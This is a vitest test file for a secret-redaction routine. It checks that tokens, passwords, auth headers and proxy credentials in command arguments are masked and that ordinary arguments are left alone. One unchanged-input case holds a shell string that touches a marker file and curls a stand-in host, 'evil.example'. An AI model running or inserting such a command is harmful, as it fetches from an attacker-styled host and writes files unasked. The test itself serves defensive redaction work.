// Tests packages/inspect/src/redaction/redact-fields.ts
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { redactWord, redactWords } from '../../src/redaction/redact-fields.js';

const s = 's3cret';
const shown = '[redacted]';

describe('redactWords', () => {
  it.each<readonly [string[], string[]]>([
    // A value in the next word
    [
      ['--token', s, '--x'],
      ['--token', shown, '--x'],
    ],
    [
      ['-token', s],
      ['-token', shown],
    ],
    [
      ['--Password', s],
      ['--Password', shown],
    ],
    [
      ['--pass', s],
      ['--pass', shown],
    ],
    [
      ['--oidc-client-secret', s, 'x'],
      ['--oidc-client-secret', shown, 'x'],
    ],
    [
      ['--secret_key=', s],
      ['--secret_key=', shown],
    ],
    [
      ['--token', '--password', s],
      ['--token', shown, shown],
    ],
    [
      ['--token', `-${s}`],
      ['--token', shown],
    ],
    [
      ['-u', `jane:${s}`],
      ['-u', shown],
    ],
    [
      ['-p', s],
      ['-p', shown],
    ],
    [
      ['-H', `X-Mine: ${s}`],
      ['-H', shown],
    ],
    [
      ['--header', `X-Mine: ${s}`],
      ['--header', shown],
    ],
    [
      ['--data-raw', s],
      ['--data-raw', shown],
    ],
    [
      ['--api-key:', s],
      ['--api-key:', shown],
    ],
    [
      ['password', s],
      ['password', shown],
    ],
    [
      ['X-Auth-Token:', s],
      ['X-Auth-Token:', shown],
    ],
    [
      ['Bearer', s],
      ['Bearer', shown],
    ],
    [
      ['-pw', s],
      ['-pw', shown],
    ],
    [
      ['--userpass', s],
      ['--userpass', shown],
    ],
    [
      ['/password', s],
      ['/password', shown],
    ],
    [
      ['-b', `a=${s}`],
      ['-b', shown],
    ],
    [
      ['-w', s],
      ['-w', shown],
    ],
    [
      ['login --token', s],
      ['login --token', shown],
    ],
    [
      ['Authorization: Bearer ', s],
      ['Authorization: [redacted]', shown],
    ],
    // A value in the same word
    [[`--token=${s}`], [`--token=${shown}`]],
    [[`--password=my ${s}`], [`--password=${shown}`]],
    [[`--oidc-client-secret:${s}`], [`--oidc-client-secret:${shown}`]],
    [[`AWS_SECRET_ACCESS_KEY=${s}`], [`AWS_SECRET_ACCESS_KEY=${shown}`]],
    [[`-ujane:${s}`], [`-u${shown}`]],
    [[`-HX-Mine: ${s}`], [`-H${shown}`]],
    [[`-p${s}`], [`-p${shown}`]],
    [[`--user=jane:${s}`], [`--user=${shown}`]],
    [[`X-Auth-Token:${s}`], [`X-Auth-Token:${shown}`]],
    [[`pass:${s}`], [`pass:${shown}`]],
    [[`{"token":"${s}"}`], [`{"token":${shown}`]],
    [[`grant_type=password&client_secret=${s}`], [`grant_type=password&client_secret=${shown}`]],
    [[`--url=https://a/b?code=${s}`], [`--url=https://a/b?${shown}`]],
    [[`--proxy=http://jane:${s}@p:3128`], [`--proxy=http://${shown}@p:3128`]],
    [[`--proxy=jane:${s}@p:3128`], [`${shown}@p:3128`]],
    [[`jane:${s}/x@p:3128`], [`${shown}@p:3128`]],
    [[`jane:${s}@p//x`], [`${shown}@p//x`]],
    [[`jane:${s}//x@p`], [`${shown}@p`]],
    [[`<password>${s}</password>`], [`<password>${shown}`]],
    [[`/user:jane /password:${s}`], [`/user:jane /password:${shown}`]],
    [[`--token-url=https://a/token?client_secret=${s}`], [`--token-url=https://a/token?${shown}`]],
    // A command for a shell
    [
      ['-c', `login --password ${s} --x ${s}`],
      ['-c', `login --password ${shown}`],
    ],
    [
      ['-c', `login --password 'my ${s}'; x`],
      ['-c', `login --password ${shown}`],
    ],
    [
      ['-c', `curl -H 'Authorization: Bearer ${s}' https://a`],
      ['-c', `curl -H ${shown}`],
    ],
    [
      ['-c', `curl -u jane:${s} https://a`],
      ['-c', `curl -u ${shown}`],
    ],
    [
      ['-c', `echo ${s} | x; TOKEN=${s} y`.replace(s, 'x')],
      ['-c', `echo x | x; TOKEN=${shown}`],
    ],
    // Random words
    [['wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'], [shown]],
    [['--x=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822c'], [`--x=${shown}`]],
    [['x'.repeat(1025)], [shown]],
  ])('shows %j as %j', (words, expected) => {
    expect(redactWords(words)).toEqual(expected);
    expect(redactWords(words).join(' ')).not.toContain(s);
    // An answer of ours that is uploaded again stays as it is.
    expect(redactWords(expected)).toEqual(expected);
  });

  it.each([
    [['eks', 'get-token', '--cluster-name', 'prod', '--region', 'eu-west-1', '--output', 'json', '--profile', 'ops']],
    [['eks', 'get-token', '--role-arn', 'arn:aws:iam::123456789012:role/KubernetesAdministrators', '-i', 'prod']],
    [['get-token', '--login', 'azurecli', '--server-id', '6dae42f8-4368-4678-94ff-3960e28e3630', '--tenant-id', 'x']],
    [['oidc-login', 'get-token', '--oidc-issuer-url=https://issuer.example/realms/x', '--oidc-client-id=kubernetes']],
    [['--token-file', '/var/run/token', '--password-stdin', '--token-cache-dir=/tmp/x', '--secret-name', 'x']],
    [['-c', 'touch /tmp/kubepass-inspection-was-here; curl -s https://evil.example/x']],
    [
      [
        '-profile=prod',
        '-data-dir',
        '/var/lib/x',
        '--passthrough',
        'x',
        '/usr/local/bin/Very/Long2/Path3/To4/Program5',
      ],
    ],
    [['x'.repeat(300)]],
    [[]],
  ])('leaves %j as it is', (words) => {
    expect(redactWords(words)).toEqual(words);
  });

  // The same keys each time: the rare key that resembles words is not what these tests are about.
  const keyOf = (i: number) => createHash('sha512').update(`key ${i}`).digest().subarray(0, 40);

  it('knows random keys, in base64, base64url and hex', () => {
    for (let i = 0; i < 300; i++)
      for (const encoding of ['base64', 'base64url', 'hex'] as const) {
        const key = keyOf(i).toString(encoding).replaceAll('-', '_').replace(/^\//, 'x');
        expect(redactWord(key), key).not.toContain(key);
      }
  });

  it('knows nearly every random key that begins like a path', () => {
    const keys = Array.from({ length: 300 }, (_, i) => `/${keyOf(i).toString('base64')}`);
    expect(keys.filter((key) => redactWord(key) === key).length).toBeLessThanOrEqual(6);
  });

  it('leaves paths as they are, with hashes in them', () => {
    for (const path of [
      `/nix/store/${'0z5b9x'.repeat(6)}/bin/aws`,
      `/cache/${'0f'.repeat(32)}`,
      '~/Very/Long2/Path3/To4',
    ])
      expect(redactWord(path)).toBe(path);
  });
});
